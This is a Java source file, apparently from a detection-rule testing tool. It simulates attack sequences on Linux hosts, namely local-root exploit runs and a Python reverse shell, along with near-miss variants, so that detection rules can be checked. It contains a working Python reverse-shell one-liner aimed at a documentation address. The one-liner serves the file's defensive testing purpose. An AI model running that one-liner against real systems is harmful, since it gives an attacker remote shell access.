package dev.streamrules.tools.sim;

import dev.streamrules.tools.sim.HostState.Resident;
import dev.streamrules.tools.sim.PlantedSequence.Kind;
import java.util.List;

/**
 * Sessions that plant one sequence of {@link SequenceRules} on a Linux host: the attack, or a near
 * miss that differs from it in one way only (the gap, the join key, or an {@code until} event in
 * between). Every gap that decides the outcome is timed exactly ({@link ProcessScript#after}), so the
 * truth does not depend on how the fleet's sessions interleave.
 */
final class SequenceScenarios {

    private static final List<Kind> ESCALATION_NEAR_MISSES = List.of(Kind.OUTSIDE_MAXSPAN, Kind.WRONG_KEY);
    private static final List<Kind> SHELL_NEAR_MISSES =
            List.of(Kind.OUTSIDE_MAXSPAN, Kind.WRONG_KEY, Kind.BROKEN_BY_UNTIL);
    /** The common Python reverse shell one-liner, connecting back to a documentation address. */
    private static final String REVERSE_SHELL = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
            + "socket.SOCK_STREAM);s.connect((\"203.0.113.%d\",%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
            + "os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])";

    private record Login(ProcRef session, ProcRef shell) {}

    /** One planted sequence: an attack, or else one of the rule's near misses; the rule by a coin. */
    ProcessScript plant(HostState host, Dice dice, boolean attack) {
        if (dice.chance(0.5)) {
            return privilegeEscalation(host, dice, attack ? Kind.ATTACK : dice.pick(ESCALATION_NEAR_MISSES));
        }
        return pythonShell(host, dice, attack ? Kind.ATTACK : dice.pick(SHELL_NEAR_MISSES));
    }

    /**
     * A user logged in over ssh runs a local-root exploit dropped in a writable folder; it becomes root
     * (uid_change) within a second and runs a shell. Near misses: the uid_change comes after maxspan;
     * or the user runs a program from their home folder and then sudo, whose own uid_change is another
     * process's.
     */
    ProcessScript privilegeEscalation(HostState host, Dice dice, Kind kind) {
        HostProfile p = host.profile;
        UserAccount user = p.someone(dice);
        ProcessScript s = new ProcessScript();
        Login login = sshLogin(s, host, user);
        SequencePlant plant = new SequencePlant(SequenceRules.PRIVILEGE_ESCALATION, kind);
        switch (kind) {
            case ATTACK, OUTSIDE_MAXSPAN -> {
                String folder = dice.pick("/tmp", "/var/tmp", "/dev/shm", user.home() + "/.cache");
                String name = dice.pick("pwnkit", "cve-2021-4034", "exp", "dirtypipe", "lpe", ".x");
                ProcRef exploit = s.fork(login.shell())
                        .ownGroup()
                        .workingDirectory(folder)
                        .child();
                s.marked(plant.member()).exec(exploit, ProcessImage.of(folder + "/" + name, "./" + name));
                long gap = kind == Kind.ATTACK
                        ? dice.between(20, 900)
                        : SequenceRules.PRIVILEGE_ESCALATION_MAXSPAN_MILLIS + dice.between(200, 2_000);
                s.after(gap).marked(plant.last()).uidChange(exploit, p.root);
                s.after(dice.between(2, 40)).exec(exploit, p.os.sh().plainImage());
                s.end(exploit);
            }
            case WRONG_KEY -> {
                ProcRef tool = s.fork(login.shell()).ownGroup().child();
                s.marked(plant.member())
                        .exec(tool, ProcessImage.of(user.home() + "/.local/bin/deploy", "deploy", "--dry-run"));
                s.after(dice.between(10, 200)).end(tool);
                ProcRef sudo = s.after(dice.between(10, 150))
                        .fork(login.shell())
                        .ownGroup()
                        .child();
                s.after(dice.between(1, 5))
                        .exec(sudo, ProcessImage.of("/usr/bin/sudo", "sudo", "systemctl", "restart", "nginx"));
                s.after(dice.between(5, 80)).marked(plant.last()).uidChange(sudo, p.root);
                s.end(sudo);
            }
            default ->
                throw new IllegalArgumentException("no " + kind + " near miss for the privilege escalation rule");
        }
        s.end(login.shell());
        s.end(login.session());
        return s;
    }

    /**
     * A {@code python3 -c} reverse shell starts {@code /bin/sh -i}: from the web app on web servers (a
     * web shell's command), from an ssh session elsewhere. Near misses: the shell comes after maxspan;
     * a shell whose parent is another process; the python process ends (the rule's {@code until})
     * before its orphaned child execs the shell.
     */
    ProcessScript pythonShell(HostState host, Dice dice, Kind kind) {
        HostProfile p = host.profile;
        ProcessScript s = new ProcessScript();
        Login login = null;
        ProcRef parent;
        if (p.role == HostRole.WEB) {
            parent = host.resident(Resident.APP);
        } else {
            login = sshLogin(s, host, p.someone(dice));
            parent = login.shell();
        }
        SequencePlant plant = new SequencePlant(SequenceRules.PYTHON_INTERACTIVE_SHELL, kind);
        ProcessImage python = ProcessImage.of(
                "/usr/bin/python3",
                "python3",
                "-c",
                String.format(REVERSE_SHELL, dice.between(2, 254), dice.pick(4444, 9001, 1337, 8443)));
        ProcessImage shell = ProcessImage.of(p.os.sh().executable(), "/bin/sh", "-i");
        ProcRef py = s.fork(parent).child();
        s.marked(plant.member()).exec(py, python);
        switch (kind) {
            case ATTACK, OUTSIDE_MAXSPAN -> {
                long gap = kind == Kind.ATTACK
                        ? dice.between(20, 20_000)
                        : SequenceRules.PYTHON_INTERACTIVE_SHELL_MAXSPAN_MILLIS + dice.between(500, 15_000);
                ProcRef child = s.after(gap).fork(py).child();
                s.after(dice.between(1, 10)).marked(plant.last()).exec(child, shell);
                s.end(child);
                s.end(py);
            }
            case WRONG_KEY -> {
                ProcRef other = s.after(dice.between(100, 5_000)).fork(parent).child();
                s.after(dice.between(1, 10)).marked(plant.last()).exec(other, shell);
                s.end(other);
                s.end(py);
            }
            case BROKEN_BY_UNTIL -> {
                ProcRef child = s.after(dice.between(20, 300)).fork(py).child();
                s.after(dice.between(5, 200)).marked(plant.member()).end(py);
                s.after(dice.between(5, 200)).marked(plant.last()).exec(child, shell);
                s.end(child);
            }
        }
        if (login != null) {
            s.end(login.shell());
            s.end(login.session());
        }
        return s;
    }

    private static Login sshLogin(ProcessScript s, HostState host, UserAccount user) {
        ProcRef session = s.fork(host.resident(Resident.SSHD)).child();
        ProcRef shell = s.fork(session).leadsItsSession().child();
        s.exec(shell, user.shell().loginImage())
                .as(user)
                .workingDirectory(user.home())
                .entryLeader("sshd", true, host.nextPseudoTerminal());
        return new Login(session, shell);
    }
}
